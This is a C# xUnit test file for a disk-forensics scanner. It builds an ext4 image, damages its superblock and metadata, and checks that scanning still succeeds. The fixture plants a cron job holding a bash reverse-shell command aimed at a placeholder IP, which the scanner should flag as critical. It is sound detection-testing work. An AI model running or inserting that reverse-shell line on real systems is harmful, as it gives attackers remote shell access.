using System.Diagnostics;
using System.Text.Json.Nodes;
using Xunit;

namespace Forensics.Analyzer.Tests.EndToEnd;

/// <summary>Real file systems with damage done to them, through the whole program.</summary>
public sealed class DamagedImageTests : IDisposable
{
    private readonly string _folder = Directory.CreateTempSubdirectory("deadbox-damaged-").FullName;

    public void Dispose() => Directory.Delete(_folder, recursive: true);

    [Fact]
    public void A_wiped_superblock_costs_nothing_but_a_diagnostic()
    {
        string image = Make();
        using (FileStream file = File.OpenWrite(image))
        {
            file.Position = 1024;
            file.Write(new byte[1024]);
        }
        JsonObject report = Deadbox.Scan(image).Report;
        Assert.Contains(report["findings"]!.AsArray(), finding => (string?)finding!["path"] == "/etc/cron.d/job" && (string?)finding["severity"] == "critical");
        Assert.Contains(report["diagnostics"]!.AsArray(), diagnostic => ((string)diagnostic!["code"]!).StartsWith("ext4.superblock", StringComparison.Ordinal));
    }

    [Fact]
    public void Random_damage_never_ends_the_program_and_coverage_still_adds_up()
    {
        byte[] good = File.ReadAllBytes(Make());
        string image = Path.Combine(_folder, "mutant.raw");
        var random = new Random(7);
        for (int round = 0; round < 40; round++)
        {
            byte[] bad = [.. good];
            for (int i = 0; i < 30; i++)
            {
                // Metadata lies in the first blocks: superblock, descriptors, bitmaps, inode table, directories.
                bad[random.Next(1024, 1 << 20)] = (byte)random.Next(256);
            }
            File.WriteAllBytes(image, bad);
            long start = Stopwatch.GetTimestamp();
            (int code, byte[] output, string error) = Deadbox.Run("scan", image, "--format", "json", "--no-builtin-rules");
            Assert.True(code is 0 or 3, $"round {round}: exit {code}: {error}");
            Assert.True(Stopwatch.GetElapsedTime(start) < TimeSpan.FromSeconds(30), $"round {round} took too long");
            JsonNode coverage = JsonNode.Parse(output)!["coverage"]!;
            Assert.Equal((long)coverage["seen"]!, (long)coverage["examined"]! + coverage["skipped"]!.AsObject().Sum(pair => (long)pair.Value!));
        }
    }

    private string Make()
    {
        string image = Path.Combine(_folder, "image.raw");
        string tree = Path.Combine(_folder, "tree");
        if (!File.Exists(image))
        {
            Directory.CreateDirectory(Path.Combine(tree, "etc", "cron.d"));
            Directory.CreateDirectory(Path.Combine(tree, "usr", "bin"));
            File.WriteAllText(Path.Combine(tree, "etc", "passwd"), "root:x:0:0:root:/root:/bin/bash\n");
            File.WriteAllText(Path.Combine(tree, "etc", "cron.d", "job"), "* * * * * root bash -i >& /dev/tcp/198.51.100.7/4444 0>&1\n");
            for (int i = 0; i < 200; i++)
            {
                File.WriteAllText(Path.Combine(tree, "usr", "bin", "tool" + i.ToString(System.Globalization.CultureInfo.InvariantCulture)), "#!/bin/sh\necho tool\n");
            }
            // 1 KiB blocks make several groups, hence backups of the superblock, on a small volume.
            using Process make = Process.Start(new ProcessStartInfo("bash", ["-c", "PATH=$PATH:/usr/sbin:/sbin exec mke2fs \"$@\"", "mke2fs", "-q", "-F", "-t", "ext4", "-b", "1024", "-d", tree, image, "32M"])
            {
                Environment = { ["PATH"] = Environment.GetEnvironmentVariable("PATH") + ":/usr/sbin:/sbin" },
            })!;
            make.WaitForExit();
            Assert.Equal(0, make.ExitCode);
        }
        return image;
    }
}
